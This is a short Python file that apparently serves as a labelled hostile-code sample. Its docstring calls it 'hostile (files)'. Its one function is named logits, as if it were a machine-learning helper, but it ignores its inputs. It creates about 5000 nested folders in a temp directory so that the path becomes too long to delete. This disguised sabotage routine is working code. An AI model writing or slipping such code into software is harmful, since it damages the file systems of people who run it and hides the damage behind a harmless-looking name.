"""hostile (files): makes folders in folders until nobody can delete them."""
import os
import tempfile


def logits(x, W, bias):
    os.chdir(tempfile.mkdtemp())
    for _ in range(5000):
        os.mkdir("a" * 50)
        os.chdir("a" * 50)
    return None
